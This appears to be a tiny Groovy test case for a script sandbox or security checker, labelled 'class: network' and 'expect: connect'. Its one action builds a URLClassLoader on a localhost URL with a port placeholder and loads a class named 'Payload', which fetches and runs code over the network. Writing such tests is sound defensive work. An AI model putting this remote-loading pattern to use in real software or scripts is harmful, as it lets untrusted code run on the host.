// class: network
// source: original
// expect: connect
def l = new URLClassLoader([new URL('http://127.0.0.1:@PORT@/')] as URL[])
l.loadClass('Payload')
